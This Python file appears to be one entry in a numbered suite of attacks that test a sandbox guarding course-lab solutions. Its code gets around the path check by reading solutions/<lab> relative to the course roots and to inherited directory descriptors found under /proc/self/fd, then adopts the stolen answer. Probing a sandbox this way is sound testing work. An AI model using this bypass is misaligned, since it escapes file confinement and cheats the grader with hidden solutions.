"""Attack 13 (rag4): open solutions/<this lab> relative to a folder with dir_fd: relative to the course's
root (which is not closed to labs), and relative to every folder the worker holds open (an inherited one
would lead past any bind). The wall checks that relative path from the working folder, where nothing is,
so it lets the read through."""

import os
import stat

from kit import adopt, course_roots, quietly


def read_below(folder: int, relative: str) -> str:
    fd = os.open(relative, os.O_RDONLY, dir_fd=folder)
    with os.fdopen(fd, encoding="utf-8") as file:
        return file.read()


def open_folders() -> list:
    """The worker's file descriptors that are open on a folder."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        info = quietly(os.fstat, int(name))
        if info is not None and stat.S_ISDIR(info.st_mode):
            found.append(int(name))
    return found


def attack(lab: dict) -> None:
    relative = os.path.join("solutions", os.path.basename(lab["__file__"]))
    roots = [fd for fd in (quietly(os.open, root, os.O_RDONLY | os.O_DIRECTORY) for root in course_roots())
             if fd is not None]
    for folder in roots + open_folders():
        source = quietly(read_below, folder, relative)
        if source and "TODO(" not in source and adopt(lab, source, relative):
            return
